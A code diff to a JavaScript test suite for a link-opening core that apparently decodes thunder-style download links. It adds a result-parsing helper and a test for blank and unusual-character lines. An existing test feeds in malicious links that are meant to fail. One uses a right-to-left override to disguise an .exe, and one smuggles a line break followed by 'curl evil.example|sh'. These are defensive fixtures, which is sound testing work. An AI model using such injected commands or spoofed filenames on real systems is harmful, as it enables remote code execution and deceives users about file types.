@@ -13,6 +13,12 @@ let core;
 test.before(async () => { core = await ZentrovaCore(); });
 
 const film = gbk('http://127.0.0.1/电影 第1集.mkv');
+const statuses = {c: 'converted', p: 'passedThrough', f: 'failed', b: 'blank'};
+const open = (links, chinese, names = true) => JSON.parse(core.openLinks(links.join('\n'), chinese, names)).map(
+    ([status, first, uri, name]) => (status === 'f' ? {status: statuses[status], error: first} :
+                                     status === 'b' ? {status: statuses[status]} :
+                                     {status: statuses[status], address: first, uri,
+                                      ...(name ? {name} : {})}));
 
 test('links as pages hold them open to the address, the escaped bytes and the name', () => {
   const rows = [
@@ -35,10 +41,10 @@ test('links as pages hold them open to the address, the escaped bytes and the na
     ['http://a.example/plain.zip', 'passedThrough', 'http://a.example/plain.zip',
      'http://a.example/plain.zip', 'plain.zip'],
   ];
-  const results = core.openLinks(rows.map((row) => row[0]), true);
+  const results = open(rows.map((row) => row[0]), true);
   assert.equal(results.length, rows.length);
   rows.forEach(([link, status, address, uri, name], i) => {
-    assert.deepEqual(results[i], {status, address, uri, name, error: null}, link);
+    assert.deepEqual(results[i], {status, address, uri, ...(name ? {name} : {})}, link);
   });
 });
 
@@ -51,8 +57,8 @@ test('links that must not open fail with their reason, in the language asked for
     [thunder('http://a.example/下载\u202Egpj.exe'), 'U+202E', 'U+202E'],
     [thunder('http://a.example/\r\ncurl evil.example|sh'), 'U+000D', 'U+000D'],
   ];
-  const chinese = core.openLinks(rows.map((row) => row[0]), true);
-  const english = core.openLinks(rows.map((row) => row[0]), false);
+  const chinese = open(rows.map((row) => row[0]), true);
+  const english = open(rows.map((row) => row[0]), false);
   rows.forEach(([link, inChinese, inEnglish], i) => {
     assert.equal(chinese[i].status, 'failed', link);
     assert.equal(english[i].status, 'failed', link);
@@ -62,6 +68,22 @@ test('links that must not open fail with their reason, in the language asked for
     assert.doesNotMatch(english[i].error, /[\u4e00-\u9fff]/, 'said in English');
     assert.equal(chinese[i].uri, undefined, 'no address to follow');
   });
+});
+
+test('every line gives one result, whatever its characters; blank lines too', () => {
+  const lone = 'http://a.example/\ud800x"\\\u0001';
+  const lines = ['', thunder('http://a.example/😀.zip'), lone, '  ', thunder('http://a.example/q"\\.zip')];
+  const results = open(lines, false);
+  assert.deepEqual(results.map((r) => r.status),
+                   ['blank', 'converted', 'failed', 'blank', 'converted']);
+  assert.equal(results[1].address, 'http://a.example/😀.zip');
+  assert.equal(results[1].uri, 'http://a.example/%F0%9F%98%80.zip');
+  assert.equal(results[4].address, 'http://a.example/q"\\.zip');
+  assert.equal(open([lone], false)[0].status, 'failed');
+  // What the content scripts ask for: no names.
+  assert.deepEqual(open([lines[1]], false, false),
+                   [{status: 'converted', address: 'http://a.example/😀.zip',
+                     uri: 'http://a.example/%F0%9F%98%80.zip'}]);
 });
 
 test('the hand-off forms are the lists\' forms, with notes on what they leave out', () => {
